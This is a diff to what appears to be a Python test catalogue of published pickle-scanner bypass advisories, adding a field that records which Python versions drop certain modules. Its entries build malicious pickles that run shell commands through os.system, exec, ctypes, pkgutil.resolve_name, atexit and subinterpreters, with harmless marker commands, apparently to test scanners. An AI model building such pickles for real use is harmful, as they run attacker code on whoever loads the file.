@@ -53,6 +53,7 @@ class Published:
     stream: Callable[[str], bytes]
     runs: bool = True
     at_load: bool = False  # needs the real object: find_class refuses it
+    gone: tuple[int, int] | None = None  # the first Python that has no such module
 
 
 def shell(marker: str) -> bytes:
@@ -153,7 +154,7 @@ PUBLISHED = (
     Published("GHSA-v7x6-rv5q-mhwc", _SCAN, "timeit.timeit", calling("timeit", "timeit", text("pass"), code)),
     Published("GHSA-46h3-79wf-xr6c", _SCAN, "bdb.Bdb.run", calling("bdb", "Bdb.run", made("bdb", "Bdb"), code)),
     Published("GHSA-m273-6v24-x4m4", _SCAN, "distutils.file_util.write_file",
-              calling("distutils.file_util", "write_file", path, list_of(text("touched")))),
+              calling("distutils.file_util", "write_file", path, list_of(text("touched"))), gone=(3, 12)),
     Published("GHSA-4675-36f9-wf6r", _SCAN, "ctypes.CDLL and getattr",
               lambda m: PROTO4 + call(attribute(call(stack_name("ctypes", "CDLL"), NONE), "system"),
                                       raw(f"echo > '{m}'".encode())) + STOP),
@@ -169,7 +170,7 @@ PUBLISHED = (
                       number(0))),
     Published("GHSA-f54q-57x4-jg88", _SCAN, "lib2to3.pgen2.grammar.Grammar.loads, a pickle in bytes",
               calling("lib2to3.pgen2.grammar", "Grammar.loads", made("lib2to3.pgen2.grammar", "Grammar"),
-                      lambda m: raw(calling("os", "system", shell)(m)))),
+                      lambda m: raw(calling("os", "system", shell)(m))), gone=(3, 13)),
     Published("GHSA-vvpj-8cmc-gx39", _SCAN, "pkgutil.resolve_name",
               lambda m: PROTO4 + call(call(stack_name("pkgutil", "resolve_name"), text("os:system")), shell(m)) + STOP),
     Published("GHSA-g38g-8gr9-h9xp", _SCAN, "uuid._get_command_stdout",
@@ -245,7 +246,7 @@ PUBLISHED = (
               lambda m: PROTO4 + call(SYSTEM, shell(m)) + POP + EMPTY_DICT + STOP),
     Published("GHSA-6ggj-6f2q-f7mx", _FICKLING, "a subinterpreter",
               lambda m: PROTO4 + call(stack_name("_xxsubinterpreters", "run_string"),
-                                      call(stack_name("_xxsubinterpreters", "create")), code(m)) + STOP),
+                                      call(stack_name("_xxsubinterpreters", "create")), code(m)) + STOP, gone=(3, 13)),
     Published("GHSA-m6fh-58r7-x697", _FICKLING, "a call at exit", calling("atexit", "register", SYSTEM, shell)),
     Published("GHSA-h4rm-mm56-xf63", _FICKLING, "builtins", calling("builtins", "exec", code)),
     # ---- modelscan --------------------------------------------------------------------------------------------------
